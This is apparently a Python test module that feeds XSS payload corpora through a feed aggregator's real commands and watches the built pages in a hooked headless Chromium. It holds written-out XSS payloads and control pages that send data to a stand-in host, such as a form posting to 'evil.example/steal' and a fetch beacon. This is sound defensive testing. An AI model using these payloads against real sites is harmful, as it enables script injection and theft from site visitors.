"""Hostile content through the real commands, then every page it made in a watched Chromium.

Shared by tests/test_hostile_browser.py (the normal suite) and bench/hostile_browser.py (the
full run with figures). Three parts:

- **The network** (`build_network`): every XSS payload of ../shared/corpora/hostile-inputs
  (the PayloadsAllTheThings lists, one payload a non-blank line, and DOMPurify's cases) put in
  the title, summary, content, author name and link of an RSS, an Atom and a JSON Feed entry
  each, and in the text, content warning, author's display name, media description, hashtag
  and link of a Mastodon status (tests/mastodon_server.py's FakeInstance); beside them every
  feed of feedparser-tests/wellformed/sanitize as it is. All on tests/server.py, 127.0.0.1.
- **The real commands** (`run_pln`, `serve_output`): `pln fetch`, `pln build`, `pln email
  --out` and `pln serve` as child processes, with a proxy that does not exist for any other
  host, so nothing leaves 127.0.0.1.
- **The watched browser** (`Watcher`): Debian's chromium through Playwright. Every page is
  opened in a fresh tab of one context whose init script replaces alert/confirm/prompt/print,
  window.open, form submission and listens to the Navigation API, all reporting to Python;
  Playwright's own events add real dialogs, popups, frame navigations and navigation
  requests, and a route sees every request (any host but the page's own server is recorded
  and refused). A static look at each page's DOM after it settled adds what a click or a
  hover would fire: event-handler attributes, script elements, frames, forms, refresh and
  links or sources whose scheme is not http, https or mailto. Two controls prove the hooks
  (`serve_control`: unsanitized pages, one way out each) and the payloads (`unsafe_copy`: the
  same posts built through a theme that prints titles unescaped) are live.

XML cannot hold C0 control characters, so in the RSS and Atom copies those few payloads
(8 of DOMPurify's) carry U+FFFD instead; the JSON Feed and Mastodon copies carry them as
they are.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import subprocess
import sys
from collections import Counter
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from email import message_from_bytes, policy
from email.utils import format_datetime
from pathlib import Path
from typing import Any, TypeVar
from urllib.parse import quote, urlsplit
from xml.sax.saxutils import escape

from tests.mastodon_server import FakeInstance
from tests.server import LocalHTTPServer, unused_port

_T = TypeVar("_T")
ROOT = Path(__file__).resolve().parents[1]
CORPORA = ROOT.parent / "shared" / "corpora"
HOSTILE = CORPORA / "hostile-inputs"
SANITIZE = CORPORA / "feedparser-tests" / "wellformed" / "sanitize"
CHROMIUM = Path("/usr/bin/chromium")
# How every browser test launches Debian's chromium (tests/test_browser.py imports these from
# here: that module skips itself on import where chromium is missing, these tests must fail).
CHROMIUM_ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
CHUNK = 200  # entries per feed (and statuses per Mastodon account: pln reads 200 at first)
SPREAD = timedelta(days=6)  # posts spread over the last six days: every day page, one email
FIELDS = ("title", "summary", "content", "author name", "link", "Mastodon status")
_NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
# What a search on the built site is asked, so that its results show hostile titles too.
SEARCHES = ("alert", "script", "onerror", "javascript", "svg", "iframe")


# ── the corpus ───────────────────────────────────────────────────────────────────────────


@dataclass(frozen=True)
class Payload:
    origin: str  # "xss/IntrudersXSS.txt:12" or "dompurify:7"
    text: str


def corpus_available() -> bool:
    return HOSTILE.is_dir() and SANITIZE.is_dir()


def corpus_payloads() -> list[Payload]:
    """Every non-blank line of the PayloadsAllTheThings XSS lists, then DOMPurify's cases."""
    found: list[Payload] = []
    for path in sorted((HOSTILE / "payloadsallthethings" / "xss").glob("*.txt")):
        lines = path.read_text(encoding="utf-8", errors="replace").splitlines()
        found += [
            Payload(f"xss/{path.name}:{number}", line)
            for number, line in enumerate(lines, 1)
            if line.strip()
        ]
    cases = json.loads((HOSTILE / "dompurify" / "expect.json").read_text(encoding="utf-8"))
    found += [Payload(f"dompurify:{n}", case["payload"]) for n, case in enumerate(cases)]
    return found


def sanitize_feeds() -> list[Path]:
    return sorted(SANITIZE.glob("*.xml"))


def every_nth(items: Sequence[_T], step: int, offset: int) -> list[_T]:
    """A systematic sample: every ``step``-th item from ``offset``, so each list keeps its share."""
    return list(items[offset % step :: step])


# ── the network ──────────────────────────────────────────────────────────────────────────


@dataclass
class Network:
    """What was served: sources by person, and how many payloads went into each field."""

    people: dict[str, list[object]] = field(default_factory=dict)
    placed: Counter[str] = field(default_factory=Counter)
    sanitize_feeds: int = 0


def _xml_text(text: str) -> str:
    return escape(_NOT_XML.sub("\ufffd", text))


def _moments(count: int, now: datetime) -> list[datetime]:
    step = SPREAD / max(count, 1)
    return [now - timedelta(minutes=5) - step * n for n in range(count)]


def _rss(base: str, title: str, entries: Sequence[tuple[int, Payload, datetime]]) -> str:
    items = "".join(
        f"""<item><guid isPermaLink="false">rss-{n}</guid>
<title>{_xml_text(p.text)}</title><link>{_xml_text(p.text)}</link>
<dc:creator>{_xml_text(p.text)}</dc:creator><category>{_xml_text(p.text[:40])}</category>
<pubDate>{format_datetime(moment)}</pubDate><description>{_xml_text(p.text)}</description>
<content:encoded>{_xml_text(p.text)}</content:encoded></item>"""
        for n, p, moment in entries
    )
    return (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/" '
        'xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>'
        f"<title>{_xml_text(title)}</title><link>{base}/rss/</link><description>x</description>"
        f"{items}</channel></rss>"
    )


def _atom(base: str, title: str, entries: Sequence[tuple[int, Payload, datetime]]) -> str:
    items = "".join(
        f"""<entry><id>urn:hostile:atom-{n}</id><link rel="alternate" href="{_xml_text(p.text)}"/>
<title type="html">{_xml_text(p.text)}</title><author><name>{_xml_text(p.text)}</name></author>
<updated>{moment.isoformat()}</updated><summary type="html">{_xml_text(p.text)}</summary>
<content type="html">{_xml_text(p.text)}</content></entry>"""
        for n, p, moment in entries
    )
    return (
        '<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom" '
        f'xml:base="{base}/atom/"><title type="html">{_xml_text(title)}</title>'
        f"<id>urn:hostile:atom</id><updated>{datetime.now(UTC).isoformat()}</updated>"
        f"{items}</feed>"
    )


def _json_feed(base: str, title: str, entries: Sequence[tuple[int, Payload, datetime]]) -> str:
    def item(n: int, payload: Payload, moment: datetime) -> dict[str, object]:
        text = payload.text
        return {
            "id": f"json-{n}",
            "url": text,
            "external_url": f"{base}/json/{n}?x={text}",
            "title": text,
            "summary": text,
            # the payload as markup, and inside an attribute of a link and an image
            "content_html": f'{text}<a href="{text}">link</a><img src="{text}" alt="{text}">',
            "authors": [{"name": text, "url": text}],
            "tags": [text[:40]],
            "date_published": moment.isoformat(),
        }

    return json.dumps(
        {
            "version": "https://jsonfeed.org/version/1.1",
            "title": title,
            "home_page_url": f"{base}/json/",
            "items": [item(n, p, moment) for n, p, moment in entries],
        }
    )


FORMATS = {
    "rss": (_rss, "application/rss+xml; charset=utf-8"),
    "atom": (_atom, "application/atom+xml; charset=utf-8"),
    "json": (_json_feed, "application/feed+json; charset=utf-8"),
}
PEOPLE = {  # person names are the user's own, but hostile ones cost nothing to try
    "rss": "RSS <script>alert('person')</script>",
    "atom": 'Atom "><img src=x onerror=alert(1)>',
    "json": "JSON <svg onload=alert(1)>",
    "mastodon": "Mastodon <iframe src=javascript:alert(1)>",
    "sanitize": "Sanitize </title><script>alert(1)</script>",
}


def build_network(
    server: LocalHTTPServer, payloads: Sequence[Payload], feeds: Sequence[Path], now: datetime
) -> Network:
    """Serve every payload in every field, and every sanitize feed, on ``server``."""
    network = Network()
    moments = _moments(len(payloads), now)
    numbered = [(n, p, moments[n]) for n, p in enumerate(payloads)]
    for kind, (render, content_type) in FORMATS.items():
        sources: list[object] = []
        for start in range(0, len(numbered), CHUNK):
            chunk = numbered[start : start + CHUNK]
            path = f"/{kind}/{start // CHUNK}.feed"
            title = chunk[0][1].text  # each feed's own title is a payload too
            server.add(path, render(server.base_url, title, chunk), content_type=content_type)
            sources.append({"feed": server.url(path)})
        network.people[PEOPLE[kind]] = sources
    for name in ("title", "summary", "content", "author name", "link"):
        network.placed[name] = len(payloads) * len(FORMATS)
    network.people[PEOPLE["mastodon"]] = _mastodon(server, numbered, now)
    network.placed["Mastodon status"] = len(payloads)
    sanitize: list[object] = []
    for number, feed_file in enumerate(feeds):
        route = f"/sanitize/{number}.xml"
        server.add(route, feed_file.read_bytes(), content_type="text/xml")
        sanitize.append({"feed": server.url(route)})
    if sanitize:
        network.people[PEOPLE["sanitize"]] = sanitize
    network.sanitize_feeds = len(sanitize)
    return network


def _mastodon(
    server: LocalHTTPServer, numbered: Sequence[tuple[int, Payload, datetime]], now: datetime
) -> list[object]:
    """Accounts of 200 statuses each: pln reads at most 200 of an account on its first run."""
    instance = FakeInstance(server, now=now)
    sources: list[object] = []
    for start in range(0, len(numbered), CHUNK):
        username = f"mallory{start // CHUNK}"
        account = instance.add_account(username, note=numbered[start][1].text)
        for n, payload, moment in numbered[start : start + CHUNK]:
            text = payload.text
            # each status carries its own copy of the account: the display name is per status
            account.display_name = text
            status = instance.post(
                username,
                text,
                created_at=moment,
                spoiler_text=text if n % 2 else "",  # half behind a content warning
                media=[{"description": text}],
                tags=[text[:40]],
                card_url=f"{server.base_url}/card/{n}?x={text}",
            )
            status["url"] = f"{status['url']}?x={quote(text)}"
        sources.append({"mastodon": instance.profile_url(username)})
    return sources


def write_site(site_dir: Path, network: Network) -> Path:
    """sources.yaml for the network (as JSON, which is YAML), with an email section."""
    document = {
        "site": {
            "title": "Hostile <script>alert('site')</script>",
            "timezone": "UTC",
            "base_url": "https://pln.example/",
        },
        "fetch": {"timeout": 30, "max_bytes": 20_000_000, "full_text": "never"},
        "topics": [
            {"name": "Alerts <b onmouseover=alert(1)>", "match": "alert OR confirm OR prompt"},
            {"name": "Markup \"'><svg>", "match": "script OR img OR svg OR iframe"},
        ],
        "people": [{"name": name, "sources": sources} for name, sources in network.people.items()],
        "email": {
            "to": ["me@example.org"],
            "from": "pln@example.org",
            "smtp": {"host": "127.0.0.1", "port": 9, "security": "none"},
        },
    }
    site_dir.mkdir(parents=True, exist_ok=True)
    path = site_dir / "sources.yaml"
    path.write_text(json.dumps(document, indent=1), encoding="utf-8")
    return path


# ── the real commands ────────────────────────────────────────────────────────────────────


def offline_env() -> dict[str, str]:
    """The environment with a proxy that does not exist for every host but 127.0.0.1."""
    dead_proxy = f"http://127.0.0.1:{unused_port()}"
    env = {key: value for key, value in os.environ.items() if not key.lower().endswith("_proxy")}
    env.update(
        HTTP_PROXY=dead_proxy,
        HTTPS_PROXY=dead_proxy,
        ALL_PROXY=dead_proxy,
        NO_PROXY="127.0.0.1,localhost",
    )
    return env


def run_pln(site_dir: Path, *args: str, timeout: float = 900) -> subprocess.CompletedProcess[str]:
    """``pln --site SITE ARGS`` as a child process; its output comes back with the result."""
    return subprocess.run(
        [sys.executable, "-m", "aggregator", "--site", str(site_dir), *args],
        capture_output=True,
        text=True,
        env=offline_env(),
        timeout=timeout,
        check=False,
    )


@contextlib.contextmanager
def serve_output(site_dir: Path) -> Iterator[str]:
    """``pln serve --port 0`` as a child process; yields the URL it printed."""
    child = subprocess.Popen(
        [sys.executable, "-m", "aggregator", "--site", str(site_dir), "serve", "--port", "0"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env={**offline_env(), "PYTHONUNBUFFERED": "1"},  # the URL line must not wait in a buffer
    )
    try:
        assert child.stdout is not None
        line = child.stdout.readline()
        found = re.search(r"http://127\.0\.0\.1:\d+/", line)
        if found is None:
            errors = child.stderr.read() if child.stderr else ""
            raise RuntimeError(f"pln serve did not start: {line!r} {errors!r}")
        yield found.group(0)
    finally:
        child.terminate()
        child.wait(timeout=10)


# The built-in entry macro's title, and the same shown unescaped: what a careless theme does.
SAFE_TITLE = "{{ e.title }}</a>{% else %}{{ e.title }}"
UNSAFE_TITLE = "{{ e.title|safe }}</a>{% else %}{{ e.title|safe }}"


def unsafe_copy(site_dir: Path, copy_dir: Path) -> Path:
    """A copy of a fetched site whose own templates/_macros.html prints titles unescaped.

    Built and opened, it shows that the payloads arrive live through fetch and build, so
    that silence on the real site is the escaping's and the sanitizer's doing.
    """
    from aggregator.render import MACROS, builtin_templates

    copy_dir.mkdir(parents=True)
    for name in ("sources.yaml", "pln.db", "pln.db-wal"):
        if (site_dir / name).exists():
            (copy_dir / name).write_bytes((site_dir / name).read_bytes())
    macros = (builtin_templates() / MACROS).read_text(encoding="utf-8")
    if SAFE_TITLE not in macros:
        raise ValueError(f"the built-in {MACROS} no longer prints a title as {SAFE_TITLE!r}")
    (copy_dir / "templates").mkdir()
    unsafe = macros.replace(SAFE_TITLE, UNSAFE_TITLE)
    (copy_dir / "templates" / MACROS).write_text(unsafe, encoding="utf-8")
    return copy_dir


def email_html(eml: Path) -> str:
    """The HTML part of what ``pln email --out`` wrote."""
    message = message_from_bytes(eml.read_bytes(), policy=policy.default)
    part = message.get_body(("html",))
    if part is None:
        raise ValueError(f"{eml} has no HTML part")
    return str(part.get_content())


def built_pages(output: Path) -> list[str]:
    """Every .html under output/, as paths relative to it (a folder's index as the folder)."""
    pages = []
    for path in sorted(output.rglob("*.html")):
        relative = path.relative_to(output).as_posix()
        pages.append(relative.removesuffix("index.html"))
    return pages


def built_feeds(output: Path) -> list[str]:
    """Every Atom feed under output/, as paths relative to it."""
    return sorted(path.relative_to(output).as_posix() for path in output.rglob("*.xml"))


def serve_feeds(server: LocalHTTPServer, output: Path) -> list[str]:
    """The site's Atom feeds on ``server`` as application/xml, which Chromium parses as XML
    (``pln serve`` says application/atom+xml, which it shows as text); their URLs."""
    urls = []
    for relative in built_feeds(output):
        route = f"/feeds/{relative}"
        server.add(route, (output / relative).read_bytes(), content_type="application/xml")
        urls.append(server.url(route))
    return urls


# ── the watched browser ──────────────────────────────────────────────────────────────────

# Runs in every frame before the page's own code; each hook reports and does nothing else.
HOOKS = """
(() => {
  const report = (kind, detail) => {
    try { window.__plnHook(kind, String(detail).slice(0, 300)); } catch (error) {}
  };
  for (const name of ["alert", "confirm", "prompt", "print"]) {
    window[name] = (message) => { report("dialog", name + "(" + message + ")"); return null; };
  }
  window.open = (url) => { report("window.open", url); return null; };
  HTMLFormElement.prototype.submit = function () { report("form submitted", this.action); };
  HTMLFormElement.prototype.requestSubmit = function () { report("form submitted", this.action); };
  addEventListener("submit", (event) => {
    event.preventDefault();
    report("form submitted", event.target.action);
  }, true);
  if (window.navigation) {
    navigation.addEventListener("navigate", (event) => {
      report("navigate:" + event.navigationType, event.destination.url);
    });
  }
})();
"""

# What a click, a hover or a timer could still fire, read from the settled DOM.
DOM_AUDIT = """() => {
  const found = [];
  // A URL that does not parse goes nowhere when followed: inert, not a finding.
  const web = (value) => {
    let scheme;
    try { scheme = new URL(value, document.baseURI).protocol; } catch (error) { return true; }
    return ["http:", "https:", "mailto:"].includes(scheme);
  };
  for (const el of document.querySelectorAll("*")) {
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase();
      if (name.startsWith("on")) found.push(`${el.localName}[${name}]`);
      if (["href", "src", "action", "formaction", "xlink:href", "data", "poster", "background",
           "ping", "srcdoc", "srcset"].includes(name)
          && !(["href", "src", "action"].includes(name) && web(attr.value))) {
        found.push(`${el.localName}[${name}=${attr.value.slice(0, 80)}]`);
      }
    }
  }
  // G (review finding 5): search.js is a classic deferred script (it speaks up from file://)
  const own = (el) => el.localName === "script" && el.type === "" && el.defer
    && new URL(el.src, document.baseURI).pathname.endsWith("/search.js")
    && new URL(el.src).origin === location.origin;
  const ownForm = (el) => el.localName === "form" && el.id === "search-form";
  const ownLink = (el) => el.localName === "link"
    && ["stylesheet", "icon", "alternate", "prev", "next"].includes(el.rel);
  const risky = "script, iframe, frame, frameset, object, embed, applet, form, base, portal,"
    + " meta[http-equiv], link";
  // Elements of other namespaces (an Atom feed's <link>) are data, not markup that runs.
  const live = (el) => ["http://www.w3.org/1999/xhtml", "http://www.w3.org/2000/svg"]
    .includes(el.namespaceURI);
  for (const el of document.querySelectorAll(risky)) {
    if (live(el) && !own(el) && !ownForm(el) && !ownLink(el)) {
      found.push(`<${el.localName}> ${el.outerHTML.slice(0, 80)}`);
    }
  }
  const entries = document.querySelectorAll(".entry, #search-results h3").length;
  return { found, entries };
}"""

SETTLE_MS = 600  # after the last tab of a batch loaded: time for timers and meta refresh


@dataclass
class PageResult:
    url: str
    fired: list[str] = field(default_factory=list)  # dialogs, navigations, popups, requests
    static: list[str] = field(default_factory=list)  # the DOM audit's findings
    remote_images: int = 0  # images of posts on other hosts (allowed; refused here)
    entries: int = 0
    opened: bool = False  # the page's own navigation request was seen


@dataclass
class Tally:
    pages: int = 0
    dialogs: int = 0
    navigations: int = 0  # navigations, popups, form submissions, off-site requests
    static: int = 0
    remote_images: int = 0
    entries: int = 0

    def add(self, result: PageResult) -> None:
        self.pages += 1
        self.dialogs += sum(1 for event in result.fired if event.startswith("dialog"))
        self.navigations += sum(1 for event in result.fired if not event.startswith("dialog"))
        self.static += len(result.static)
        self.remote_images += result.remote_images
        self.entries += result.entries


def chromium_missing() -> str | None:
    """Why the browser cannot run here, or None."""
    try:
        import playwright.sync_api  # noqa: F401
    except ImportError:
        return "playwright is not installed (pip install -e '.[test]')"
    if not CHROMIUM.exists():
        return "Debian's chromium is not installed (apt-get install -y chromium)"
    return None


class Watcher:
    """One Chromium and one context; ``visit`` opens URLs in tabs and reports what fired."""

    def __init__(self, browser: Any) -> None:
        self.context = browser.new_context(viewport={"width": 1280, "height": 900})
        self.context.set_default_timeout(60_000)
        self._by_page: dict[Any, PageResult] = {}
        self._ours: set[Any] = set()
        # refused requests no open page of ours made (a popup's own, a worker's elsewhere)
        self.unattributed: list[str] = []
        self.context.expose_binding("__plnHook", self._hooked)
        self.context.add_init_script(HOOKS)
        self.context.route("**/*", self._route)
        self.context.on("page", self._new_page)

    def close(self) -> None:
        self.context.close()

    # events

    def _result_of(self, page: Any) -> PageResult | None:
        return self._by_page.get(page)

    def _hooked(self, source: dict[str, Any], kind: str, detail: str) -> None:
        result = self._result_of(source["page"])
        if result is None:
            return
        if kind.startswith("navigate:") and _same_document(detail, result.url):
            return  # the search page's own history.replaceState(?q=…)
        result.fired.append(f"{kind} {detail}")

    def _new_page(self, page: Any) -> None:
        if page in self._ours:
            return
        opener = page.opener()
        result = self._result_of(opener) if opener is not None else None
        if result is not None:
            result.fired.append(f"popup {page.url}")

    def _route(self, route: Any) -> None:
        request = route.request
        framed = _has_frame(request)  # a worker's request (Pagefind's) has no frame
        result = self._result_of(request.frame.page) if framed else None
        own_origin = _origin(result.url) if result is not None else None
        own = _origin(request.url) == own_origin or (not framed and self._served(request.url))
        if own or request.url.startswith(("data:", "blob:", "about:")):
            route.continue_()
            return
        route.abort()
        if result is None:
            self.unattributed.append(f"request ({request.resource_type}) {request.url}")
            return
        if request.resource_type == "image" and not request.is_navigation_request():
            result.remote_images += 1  # posts may show images from their own hosts
        else:
            result.fired.append(f"request ({request.resource_type}) {request.url}")

    def _served(self, url: str) -> bool:
        """Whether ``url`` is on the server of a page open now."""
        return any(_origin(url) == _origin(result.url) for result in self._by_page.values())

    def _watch(self, page: Any, result: PageResult) -> None:
        def dialog(dialog: Any) -> None:
            result.fired.append(f"dialog {dialog.type}: {dialog.message}")
            dialog.dismiss()

        def navigated(frame: Any) -> None:
            if frame != page.main_frame:
                result.fired.append(f"frame navigated {frame.url}")
            elif not _same_document(frame.url, result.url):
                result.fired.append(f"navigated {frame.url}")

        def requested(request: Any) -> None:
            if not request.is_navigation_request():
                return
            if request.frame == page.main_frame and not result.opened:
                result.opened = True  # the one navigation that is ours: page.goto
            else:
                result.fired.append(f"navigation request {request.url}")

        page.on("dialog", dialog)
        page.on("framenavigated", navigated)
        page.on("request", requested)

    # visiting

    def visit(
        self, urls: Sequence[str], *, batch: int = 10, ready: str | None = None
    ) -> list[PageResult]:
        """Open ``urls`` ``batch`` tabs at a time; each batch settles, then is audited."""
        results: list[PageResult] = []
        for start in range(0, len(urls), batch):
            results += self._visit_batch(urls[start : start + batch], ready)
        return results

    def _visit_batch(self, urls: Sequence[str], ready: str | None) -> list[PageResult]:
        opened: list[tuple[Any, PageResult]] = []
        for url in urls:
            result = PageResult(url)
            page = self._open_tab(result)
            opened.append((page, result))
            page.goto(url, wait_until="load")
            if ready is not None and "/search/?q=" in url:
                page.wait_for_function(ready, polling=100, timeout=30_000)
        opened[-1][0].wait_for_timeout(SETTLE_MS)
        for page, result in opened:
            self._audit_dom(page, result)
            page.close()
            del self._by_page[page]
        return [result for _, result in opened]

    def _open_tab(self, result: PageResult) -> Any:
        page = self.context.new_page()
        self._ours.add(page)
        self._by_page[page] = result
        self._watch(page, result)
        return page

    def _audit_dom(self, page: Any, result: PageResult) -> None:
        if page.is_closed():
            result.fired.append("the page closed itself")
            return
        found = page.main_frame.evaluate(DOM_AUDIT)
        result.static += found["found"]
        result.entries = found["entries"]


def _has_frame(request: Any) -> bool:
    try:
        request.frame  # noqa: B018 (a service worker's request has none, and raises)
    except Exception:
        return False
    return True


def _origin(url: str) -> tuple[str, str]:
    parts = urlsplit(url)
    return parts.scheme, parts.netloc


def _same_document(url: str, opened: str) -> bool:
    """The same page, perhaps with another query: what history.replaceState can do."""
    one, other = urlsplit(url), urlsplit(opened)
    return (one.scheme, one.netloc, one.path) == (other.scheme, other.netloc, other.path)


@contextlib.contextmanager
def chromium() -> Iterator[Any]:
    """Debian's chromium through Playwright, never a downloaded browser."""
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        try:
            yield browser
        finally:
            browser.close()


# The search page is ready when it says how many days matched (or that none did).
SEARCH_READY = """() => {
  const text = document.getElementById("search-status").textContent;
  return text !== "" && text !== "Searching…";
}"""


def page_urls(base: str, pages: Sequence[str], searches: Sequence[str] = SEARCHES) -> list[str]:
    """Every built page, and the search page once per hostile query."""
    urls = [base + page for page in pages]
    urls += [f"{base}search/?q={quote(word)}" for word in searches]
    return urls


# ── the positive control ─────────────────────────────────────────────────────────────────

# Unsanitized pages, each with one way out; the kind of record each must leave.
CONTROL_PAGES: dict[str, tuple[str, str]] = {
    "dialogs": (
        "<script>alert(1); confirm(2); prompt(3); print();</script>"
        "<img src=/nothing.png onerror=\"alert('img')\">",
        "dialog",
    ),
    "fresh-frame": (
        # a dynamically made frame hands out a native alert the init script may not reach
        "<script>const f = document.createElement('iframe'); document.body.append(f);"
        "f.contentWindow.alert('native');</script>",
        "dialog",
    ),
    "srcdoc": ("<iframe srcdoc=\"<script>alert('frame')</script>\"></iframe>", "frame"),
    "refresh": (
        '<meta http-equiv="refresh" content="0;url=http://evil.example/refresh">',
        "navigat",
    ),
    "location": (
        "<script>setTimeout(() => { location.href = '/elsewhere'; }, 50)</script>",
        "navigat",
    ),
    "open": ("<script>window.open('http://evil.example/open')</script>", "window.open"),
    "target-blank": (
        '<a id="a" href="http://evil.example/tab" target="_blank">x</a>'
        "<script>document.getElementById('a').click()</script>",
        "popup",
    ),
    "form": (
        '<form id="f" action="http://evil.example/steal" method="post"></form>'
        "<script>document.getElementById('f').submit()</script>",
        "form submitted",
    ),
    "beacon": ("<script>fetch('http://evil.example/beacon')</script>", "request"),
    "latent": (
        '<a href="javascript:alert(1)">click</a><p onmouseover="alert(2)">hover</p>',
        "static",
    ),
}


def serve_control(server: LocalHTTPServer) -> dict[str, str]:
    """The control pages on ``server``: name → URL."""
    urls: dict[str, str] = {}
    for name, (body, _) in CONTROL_PAGES.items():
        path = f"/control/{name}.html"
        html = f"<!doctype html><html><head><title>{name}</title></head><body>{body}</body></html>"
        server.add(path, html, content_type="text/html; charset=utf-8")
        urls[name] = server.url(path)
    return urls


def control_caught(name: str, result: PageResult) -> bool:
    """Whether the hooks recorded what control page ``name`` does."""
    expected = CONTROL_PAGES[name][1]
    if expected == "static":
        return bool(result.static)
    return any(expected in event for event in result.fired)
